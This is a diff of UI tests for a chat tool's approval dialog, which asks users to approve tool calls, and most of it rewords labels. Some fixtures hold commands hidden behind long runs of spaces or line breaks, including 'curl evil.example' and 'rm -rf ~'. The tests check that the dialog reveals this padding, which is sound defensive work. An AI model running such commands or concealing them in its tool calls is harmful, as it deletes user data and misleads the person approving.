@@ -173,7 +173,7 @@ describe('a call that waits for approval', () => {
             : {},
       ),
     );
-    assert.match(await group().innerText(), /7 calls need approval\s+\(2 only one by one\)/);
+    assert.match(await group().innerText(), /7 calls need approval\s+\(2 only one at a time\)/);
     await page.getByRole('button', { name: 'Show All (1)' }).click();
     assert.deepEqual(await decided(), []);
     await page.getByRole('button', { name: 'Allow All (5)' }).click();
@@ -271,9 +271,9 @@ describe('a call that waits for approval', () => {
         .evaluateAll((all) => all.map((each) => JSON.stringify(each.getBoundingClientRect())));
     for (const width of [300, 420, 1_000]) {
       await page.setViewportSize({ width, height: 600 });
-      await page.getByLabel('For how long').selectOption('once');
+      await page.getByLabel('Duration').selectOption('once');
       const before = await places();
-      await page.getByLabel('For how long').selectOption('always');
+      await page.getByLabel('Duration').selectOption('always');
       assert.deepEqual(await places(), before, String(width));
     }
     await primary().click();
@@ -294,7 +294,7 @@ describe('a call that waits for approval', () => {
     for (const theme of themeNames) {
       await chat.load({ theme });
       await chat.show([asked({ command: 'npm test' }, waiting)]);
-      await page.getByLabel('For how long').selectOption('workspace');
+      await page.getByLabel('Duration').selectOption('workspace');
       await page.locator('.approval-command').first().waitFor();
       assert.deepEqual(await violations(page, true), [], theme);
     }
@@ -320,11 +320,11 @@ describe('a call that waits for approval', () => {
     const command = `echo ok${' '.repeat(500)}; curl evil.example${'\n'.repeat(200)}rm -rf ~`;
     await chat.show([asked({ command })]);
     const block = page.getByRole('group', { name: 'Command', exact: true });
-    assert.deepEqual(await block.locator('.padding-mark').allInnerTexts(), ['500 blanks', '200 line breaks']);
+    assert.deepEqual(await block.locator('.padding-mark').allInnerTexts(), ['500 spaces', '200 line breaks']);
     const box = await block.boundingBox();
     assert.ok((box?.height ?? 999) < 140, String(box?.height));
     await chat.show([asked({ text: command })]);
-    assert.deepEqual(await page.locator('.padding-mark').allInnerTexts(), ['500 blanks', '200 line breaks']);
+    assert.deepEqual(await page.locator('.padding-mark').allInnerTexts(), ['500 spaces', '200 line breaks']);
   });
 
   it('marks every hidden character in its arguments, its name and its server', async () => {
@@ -435,7 +435,7 @@ describe('a call that waits for approval', () => {
       .locator('.diff-line .hidden-character')
       .evaluateAll((all) => all.map((each) => each.getAttribute('title')));
     assert.deepEqual(marks, ['U+202E', 'U+000D']);
-    assert.deepEqual(await page.locator('.diff-line .padding-mark').allInnerTexts(), ['300 blanks']);
+    assert.deepEqual(await page.locator('.diff-line .padding-mark').allInnerTexts(), ['300 spaces']);
     await chat.show([change(diffOf('a\n', `${'a'.repeat(5_000)}; rm -rf ~\n`))]);
     assert.equal(await primary().innerText(), 'Show all');
     await primary().click();
@@ -468,9 +468,9 @@ describe('a call that waits for approval', () => {
   it('is asked for as the line below the message says, where it can be changed', async () => {
     await chat.show([]);
     for (const [approvalMode, words] of [
-      ['ask', 'Ask. Tools ask before they run'],
-      ['changes', 'Ask for changes. Tools that are marked as read-only run without asking'],
-      ['free', 'Does not ask. Tools run without asking, except for what asks each time'],
+      ['ask', 'Ask. Tools need your approval before they run'],
+      ['changes', 'Read-only allowed. Tools that the server marks as read-only run without approval'],
+      ['free', 'Allow all tools. All tools run without approval, except calls that always need it'],
     ] as const) {
       await chat.tell(chat.patch({ op: 'status', status: { ...status, approvalMode } }));
       const button = page.getByRole('button', { name: new RegExp(words.replace('. ', String.raw`\s*\. `)) });
